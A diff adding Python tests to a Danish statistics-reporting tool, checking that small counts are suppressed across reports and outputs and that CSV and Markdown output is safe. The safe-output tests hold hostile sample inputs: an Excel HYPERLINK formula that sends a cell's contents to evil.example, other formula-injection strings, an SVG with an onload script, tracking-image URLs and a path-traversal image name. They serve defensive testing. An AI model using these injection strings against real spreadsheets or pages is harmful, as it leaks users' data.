@@ -9,14 +9,22 @@
 (3) Diskretionering (helhedsanalyse/diskretionering.py, docs/metode.md): the rules on small examples, in
     the report's tables, and on the session's rendered set of the shipped data: every report says which
     rule was applied, no count of a sensitive indicator below the threshold is shown, and every cell the
-    rules suppress (primary or secondary) is hidden in the area reports.
+    rules suppress (primary or secondary) is hidden in the area reports. Every path to a published number:
+    the corpus files under ``diskretionering:`` in tests/korpus/forventet.yaml through the value tables, the
+    data check's notes, ``status`` in every format and ``lister`` (with ``--graense`` and
+    ``--uden-diskretionering``), and the list section of the reports. (That no suppressed cell can be solved
+    for from all published numbers together is the property test in test_egenskaber.py.)
+(4) Safe outputs: CSV that Excel opens without running a formula (``status --format csv``, ``lister``), and
+    the evaluator's Markdown findings show images only from files beside them, embedded, never fetched.
 """
 
 from __future__ import annotations
 
+import base64
 import csv
 import hashlib
 import io
+import json
 import re
 import shutil
 import sys
@@ -24,6 +32,7 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+import yaml
 from typer.testing import CliRunner
 
 from helhedsanalyse import diskretionering as disk
@@ -302,6 +311,66 @@ def test_primary_rule():
     assert disk.primaer("antal", 7, graense=10) and not disk.primaer("antal", 10, graense=10)
 
 
+def test_primary_rule_counts_the_persons_behind_a_share():
+    # the tæller a value implies when only the value and the nævner are given: 10 % of 30 is 3 persons
+    assert disk.taeller_bag("pct", 10.0, None, 30) == pytest.approx(3.0)
+    assert disk.primaer("pct", 10.0, None, 30) and disk.primaer("pct", 9.7, None, 30)  # 2,91 persons
+    assert not disk.primaer("pct", 20.0, None, 30)  # 6 of 30
+    assert disk.primaer("pr_1000", 2.0, None, 1500)  # 3 per 1500 residents
+    # the complement: 48 of 50 says that 2 are not
+    assert disk.primaer("pct", 96.0, 48, 50) and disk.primaer("pct", 96.0, None, 50)
+    assert not disk.primaer("pct", 90.0, 45, 50) and not disk.primaer("pct", 100.0, 50, 50), "0 identifies nobody"
+    assert disk.primaer("pct", 92.0, 46, 50, graense=5) and not disk.primaer("pct", 90.0, 45, 50, graense=5)
+
+
+def test_the_mask_of_a_share_without_taeller_and_of_the_delivery_table_is_one():
+    """samlet adds the tæller a value implies; the delivery table's year to date is the yearly value."""
+    import pandas as pd
+
+    from helhedsanalyse.indicators import compute_indicators, normalise_observations
+
+    plan = load_plan()
+    cols = ["omraade", "indikator", "periode", "vaerdi", "taeller", "naevner"]
+    obs = pd.DataFrame([
+        ("motalavej", "ydelse_18_29", "2021", None, 72, 260), ("ringparken", "ydelse_18_29", "2021", None, 134, 520),
+        ("sydbyen", "ydelse_18_29", "2021", None, 75, 250), ("skaelskoer", "ydelse_18_29", "2021", 10.0, None, 30),
+    ], columns=cols)
+    maske = disk.marker_indikatorer(compute_indicators(obs, plan), plan, 5)
+    assert maske == {("skaelskoer", "ydelse_18_29", 2021): disk.PRIMAER,
+                     ("motalavej", "ydelse_18_29", 2021): disk.SEKUNDAER}, "the smallest other tæller (72 of 260)"
+    # fritidsjob 2021 with two quarters: the value tables have no samlet (an incomplete year), but the delivery
+    # table's samlet year to date (35) is the sum of the areas' years to date, which are their yearly values
+    obs = pd.DataFrame([(o, "fritidsjob", f"2021Q{q}", v, None, None) for o, vs in
+                        [("motalavej", (1, 2)), ("ringparken", (8, 9)), ("sydbyen", (7, 8))]
+                        for q, v in zip((1, 2), vs)], columns=cols)
+    ind = compute_indicators(obs, plan)
+    assert disk.marker_indikatorer(ind, plan, 5) == {("motalavej", "fritidsjob", 2021): disk.PRIMAER}
+    maske = disk.marker_indikatorer(ind, plan, 5, observations=normalise_observations(obs))
+    assert maske == {
+        **{("motalavej", "fritidsjob", 2021, *k): disk.PRIMAER for k in ((), ("K1",), ("K2",), ("ytd",))},
+        **{("sydbyen", "fritidsjob", 2021, *k): disk.SEKUNDAER for k in ((), ("K1",), ("K2",), ("ytd",))},
+    }, "Sydbyen's 15 is hidden in the value table too: it is the delivery table's year to date"
+
+
+def test_texts_lose_the_numbers_of_suppressed_cells():
+    plan = load_plan()
+    maske = {("skaelskoer", "ydelse_18_29", 2021): disk.PRIMAER}
+    rens = lambda t, o="samlet", v=(): disk.rens_bemaerkning(t, o, "ydelse_18_29", 2021, maske, plan, 5, v)  # noqa: E731
+    assert rens("Samlet 2021 kan ikke beregnes: mangler Motalavej (de øvrige giver 209,5).") == (
+        "Samlet 2021 kan ikke beregnes: mangler Motalavej (de øvrige giver (diskretioneret)).")
+    assert rens("Samlet er brugt som opgivet (26,8); beregnet af områderne giver 26,9.") == (
+        "Samlet er brugt som opgivet (26,8); beregnet af områderne giver (diskretioneret).")
+    assert rens("1 række(r) mere for 2021 er ikke brugt (værdi 12).", "skaelskoer", [10, None, 30]) == (
+        "1 række(r) mere for 2021 er ikke brugt (værdi (diskretioneret)).")
+    # a shown cell keeps its notes; another year's partial sum keeps its number
+    assert rens("1 række(r) mere for 2021 er ikke brugt (værdi 12).", "ringparken") == (
+        "1 række(r) mere for 2021 er ikke brugt (værdi 12).")
+    assert disk.rens_note("række 5: værdien 12 passer ikke med tæller/nævner (10); værdien er brugt", [12, 3, 30]) == (
+        "række 5: værdien (diskretioneret) passer ikke med tæller/nævner (diskretioneret); værdien er brugt")
+    assert disk.rens_note("rækker 2-4: periode 2018 og værdien 7", [7]) == (
+        "rækker 2-4: periode 2018 og værdien (diskretioneret)")
+
+
 def test_secondary_rule_hides_the_next_smallest_area_or_samlet():
     areas = ("motalavej", "ringparken", "sydbyen", "skaelskoer")
     g = [disk.Gruppe("samlet", areas)]
@@ -473,6 +542,215 @@ def test_render_refuses_a_bad_threshold_before_any_kernel(tmp_path, monkeypatch)
     assert result.stderr.strip() == (
         "Fejl: Ugyldig grænse for diskretionering '0'. Grænsen skal være et helt tal på mindst 1 (standard 5).")
     assert not (tmp_path / "ud").exists()
+
+
+# --------------------------------------------------------------------------- (3) the corpus: every path to a number
+
+KORPUS_DISK = [t for t in yaml.safe_load((KORPUS / "forventet.yaml").read_text(encoding="utf-8"))["tilfaelde"]
+               if "diskretionering" in t]
+RAPPORT_TILFAELDE = [t for t in KORPUS_DISK if "indikator" in t["diskretionering"]]
+LISTE_TILFAELDE = [(t, k) for t in KORPUS_DISK for k in t["diskretionering"].get("lister", [])]
+
+
+@pytest.fixture
+def i_korpus(monkeypatch):
+    """Run in tests/korpus, as the corpus tests do, so that the file is named as the user typed it."""
+    monkeypatch.chdir(KORPUS)
+    return KORPUS
+
+
+@pytest.mark.parametrize("t", RAPPORT_TILFAELDE, ids=[t["fil"] for t in RAPPORT_TILFAELDE])
+def test_corpus_file_in_the_published_reports(i_korpus, t, monkeypatch):
+    """The value tables, the Kilde notes, the data check and the criterion sections of the area reports."""
+    from helhedsanalyse import report as report_mod
+    from helhedsanalyse.report import Rapport
+
+    d = t["diskretionering"]
+    ind = d["indikator"]
+    r = Rapport.load("slut", [t["fil"]])
+    tabeller = {o: {c["År"]: c for c in _celler(r.vaerditabel(o, ind))} for o in r.plan.omraade_ids
+                if not r.serie(o, ind).empty}
+    for o, aar, vaerdi, brok in d["vaerditabel"]:
+        c = tabeller[o][aar]
+        assert (c["Værdi"], c.get("Tæller/nævner", "")) == (vaerdi, brok), (o, aar, c)
+    for o, kilde in d.get("kilde", {}).items():
+        assert tabeller[o]["2021"]["Kilde"] == kilde
+    if "datatjek" in d:
+        noter = _celler(r.valideringsnoter().data)
+        assert [c["Fortolket under indlæsningen"] for c in noter if c["Fil"] == t["fil"]] == d["datatjek"]
+    # the criterion sections (explanation, sentences, figure note, value table) say nothing the tables hide
+    shown: list[str] = []
+    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(getattr(obj, "data", str(obj))))
+    for k in r.plan.kriterier_med(ind):
+        for o in r.rows()[r.rows()["kriterium"] == k.id]["omraade"]:
+            r.kriterie_afsnit(k.id, o)
+    text = page_text("\n".join(shown))
+    for forbidden in d.get("ikke_vist", []):
+        assert forbidden not in text, forbidden
+    skjulte = [o for o, _, vaerdi, _ in d["vaerditabel"] if vaerdi in ("<5", "(diskretioneret)")]
+    assert text.count(disk.forklaring_udeladt(5)) >= len(skjulte)
+
+
+@pytest.mark.parametrize("t", RAPPORT_TILFAELDE, ids=[t["fil"] for t in RAPPORT_TILFAELDE])
+def test_corpus_file_in_status_in_every_format(i_korpus, t):
+    d = t["diskretionering"]
+    ind = d["indikator"]
+    out = {fmt: runner.invoke(app, ["status", "--data", t["fil"], "--format", fmt]) for fmt in ("csv", "json", "table")}
+    for fmt, res in out.items():
+        assert res.exit_code == 0, (fmt, res.output[-2000:])
+    lines = out["csv"].stdout.splitlines()
+    rows = [x for x in csv.DictReader(io.StringIO(out["csv"].stdout)) if x["indikator"] == ind]
+    by = {x["omraade"]: x for x in rows}
+    records = {x["omraade"]: x for x in json.loads(out["json"].stdout) if x["indikator"] == ind}
+    for o, vaerdi, mark in d["status"]:
+        assert (by[o]["vaerdi"], by[o]["diskretionering"]) == (vaerdi, mark), by[o]
+        assert records[o]["vaerdi"] == (float(vaerdi) if vaerdi else None) and records[o]["diskretionering"] == mark
+        if mark:  # the explanation rests on a suppressed number: replaced, as in the reports
+            for x in (by[o], records[o]):
+                assert x["forklaring"] == disk.forklaring_udeladt(5)
+                assert x["usikkerhed"] in ("", None) and x["fremskrivning"] in ("", None)
+                assert x["ki_nedre"] in ("", None) and x["fremskridt"] in ("", None)
+            assert records[o]["status"], "the status itself is computed from the full figures"
+        if mark in ("<5", "(diskretioneret)"):
+            line = next(x for x in out["table"].stdout.splitlines()
+                        if re.search(rf"\b{by[o]['kriterium']}\s+{o}\b", x))
+            assert mark in line, line
+    ind_lines = [x for x in lines if f",{ind}," in x]
+    for forbidden in d.get("ikke_vist", []):
+        assert not [x for x in ind_lines if forbidden in x], forbidden
+        assert forbidden not in json.dumps(list(records.values()), ensure_ascii=False), forbidden
+        if not re.fullmatch(r"\d+\.\d+", forbidden):  # a number as CSV writes it is not how the table shows it
+            assert forbidden not in out["table"].stdout, forbidden
+    # --uden-diskretionering: the internal copy shows the value behind the first mark
+    hidden = [o for o, vaerdi, mark in d["status"] if mark in ("<5", "(diskretioneret)")]
+    if hidden:
+        res = runner.invoke(app, ["status", "--data", t["fil"], "--format", "csv", "--uden-diskretionering"])
+        full = {x["omraade"]: x for x in csv.DictReader(io.StringIO(res.stdout)) if x["indikator"] == ind}
+        assert full[hidden[0]]["vaerdi"] != "" and "diskretionering" not in full[hidden[0]]
+
+
+@pytest.mark.parametrize("t,k", LISTE_TILFAELDE, ids=[" ".join(k["kommando"][3:]) for _, k in LISTE_TILFAELDE])
+def test_corpus_file_in_lister(i_korpus, t, k):
+    args = [t["fil"] if a == "FIL" else a for a in k["kommando"]]
+    res = runner.invoke(app, args)
+    assert res.exit_code == 0, res.output
+    if "linje" in k:
+        assert k["linje"] in res.stdout.splitlines(), res.stdout
+        return
+    row = next(x for x in csv.DictReader(io.StringIO(res.stdout))
+               if x["omraade"] == k["omraade"] and x["liste_aar"] == k["aar"])
+    assert {f: row[f] for f in k["felter"]} == k["felter"]
+
+
+def test_the_list_section_honours_the_threshold_and_the_switch(i_korpus):
+    """The list section hid shares on small counts at 5 always; it follows --graense and
+    --uden-diskretionering as every other section, and says what its title block says."""
+    from helhedsanalyse.report import Rapport
+
+    for graense, paa, vist in ((5, True, True), (10, True, False), (10, False, True)):
+        r = Rapport.load("slut", ["=lister_formel.csv"], diskretionering=paa, diskretionering_graense=graense)
+        html_text = r.listeafsnit("motalavej").data
+        krit = html_text.split("Kriterierne: værdi og afstand til grænsen")[1].split("</table>")[0]
+        assert ("0,35 %" in krit) is vist, (graense, paa)
+        assert ("(diskretioneret)" in krit) is not vist, (graense, paa)
+        assert ("0,35" in html_text) is vist, "nor in the explanation or the distance"
+        if not vist:
+            assert f"under {graense} (diskretionering)" in html_text
+            assert f"antal under {graense}" in r.titelblok("T", "O").data
+
+
+# --------------------------------------------------------------------------- (4) safe outputs
+
+
+def test_csv_cells_excel_would_run_start_with_an_apostrophe():
+    import pandas as pd
+
+    from helhedsanalyse.formatting import csv_celle, csv_tekst
+
+    for bad in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x","y")'):
+        assert csv_celle(bad) == "'" + bad
+    for good in ("ok", "-3", "+2,5", "1.5e3", "", " =x", 12, -3.5, None):
+        assert csv_celle(good) == good
+    frame = pd.DataFrame({"tal": [-1.5, 2.0], "tekst": ["=1+1", "-1"], "=kolonne": ["a", "b"]})
+    assert csv_tekst(frame).splitlines() == ["tal,tekst,'=kolonne", "-1.5,'=1+1,a", "2.0,-1,b"]
+
+
+def test_status_csv_writes_the_evaluators_formula_as_text():
+    """The issue's case: a begrundelse beginning =HYPERLINK(...) was a live formula for Excel."""
+    f = Path(__file__).parent / "filer" / "vurderinger_formel.csv"
+    res = runner.invoke(app, ["status", "--data", str(KORPUS / "diskretionering_komplement.csv"), "--data", str(f),
+                              "--format", "csv"])
+    assert res.exit_code == 0, res.output
+    rows = {x["omraade"]: x for x in csv.DictReader(io.StringIO(res.stdout)) if x["kriterium"] == "kp_beboerindflydelse"}
+    assert rows["motalavej"]["begrundelse"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Se kilde")'
+    assert rows["ringparken"]["begrundelse"] == "'@SUM(1+1) beboerne deltager"
+    assert rows["sydbyen"]["begrundelse"] == "'-2+3 møder aflyst"
+    assert rows["skaelskoer"]["begrundelse"] == "'+1 ny beboergruppe"
+    assert rows["motalavej"]["vurdering"] == "opfyldt"
+    # no cell of the file starts with a formula character unless it is a plain number
+    for row in csv.reader(io.StringIO(res.stdout)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-(?![\d.])", cell), cell
+    # JSON is not a spreadsheet: the text is kept as written
+    res = runner.invoke(app, ["status", "--data", str(f), "--format", "json"])
+    rec = next(x for x in json.loads(res.stdout) if x["kriterium"] == "kp_beboerindflydelse" and x["omraade"] == "motalavej")
+    assert rec["begrundelse"] == '=HYPERLINK("http://evil.example/?d="&A1,"Se kilde")'
+
+
+#: A 1 × 1 PNG.
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c636000"
+                    "0002000154a24f5d0000000049454e44ae426082")
+
+
+def test_findings_show_images_only_from_files_beside_them_and_never_fetch_one(tmp_path, monkeypatch):
+    import nbformat
+
+    from helhedsanalyse import report as report_mod
+    from helhedsanalyse.render import notebook_to_html
+
+    folder = tmp_path / "fund"
+    (folder / "billeder").mkdir(parents=True)
+    (folder / "diagram.png").write_bytes(PNG)
+    (folder / "billeder" / "møde.png").write_bytes(PNG)
+    (folder / "falsk.png").write_text("<svg onload=alert(1)>", encoding="utf-8")
+    (tmp_path / "hemmelig.png").write_bytes(PNG)
+    fund = folder / "fund.md"
+    fund.write_text(
+        "# Fund\n\n![Organisationen](diagram.png)\n\n![Mødet](billeder/møde.png)\n\n"
+        "![Sporing](http://evil.example/spor.png?id=1)\n\n![](https://evil.example/b.png)\n\n"
+        '<img src="http://evil.example/raa.png">\n\n![Uden for](../hemmelig.png)\n\n![Falsk](falsk.png)\n\n'
+        "![Findes ikke](mangler.png)\n\n![Data](data:image/png;base64,AAAA)\n", encoding="utf-8")
+    shown = []
+    monkeypatch.setattr(report_mod, "display", lambda obj: shown.append(obj))
+    report_mod.Rapport.evaluators_fund(None, str(fund))
+    (md,) = shown
+    p = _Markup()
+    p.feed(md.data)
+    data_uri = "data:image/png;base64," + base64.b64encode(PNG).decode("ascii")
+    assert [(t, a["src"], a["alt"]) for t, a in p.tags if t == "img"] == [
+        ("img", data_uri, "Organisationen"), ("img", data_uri, "Mødet")]
+    assert not [a for _, a in p.tags if any("evil.example" in v for v in a.values())], "nothing points to the network"
+    text = page_text(md.data)
+    nettet = ("rapporten henter aldrig billeder fra nettet eller andre adresser; læg billedfilen ved siden af "
+              "Markdown-filen og skriv dens navn")
+    for note in (
+        f"[Billedet “Sporing” (http://evil.example/spor.png?id=1) er udeladt: {nettet}.]",
+        f"[Et billede (https://evil.example/b.png) er udeladt: {nettet}.]",
+        "[Billedet “Uden for” (../hemmelig.png) er udeladt: billedfilen ligger ikke ved siden af Markdown-filen "
+        "(eller i en mappe under den).]",
+        "[Billedet “Falsk” (falsk.png) er udeladt: filen er ikke et png-billede.]",
+        "[Billedet “Findes ikke” (mangler.png) er udeladt: billedfilen findes ikke ved siden af Markdown-filen.]",
+        f"[Billedet “Data” (data:image/png;base64,AAAA) er udeladt: {nettet}.]",
+    ):
+        assert note in text, note
+    assert '<img src="http://evil.example/raa.png">' in text, "raw HTML is shown as text"
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("")
+    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": md.data, "text/plain": ""})]
+    nb.cells = [cell]
+    page = notebook_to_html(nb, "fund")
+    assert executable_markup(page) == []
+    assert "evil.example/spor.png" not in re.sub(r">[^<]*<", "><", page), "no remote address outside the text"
 
 
 # --------------------------------------------------------------------------- (3) on the rendered set of shipped data
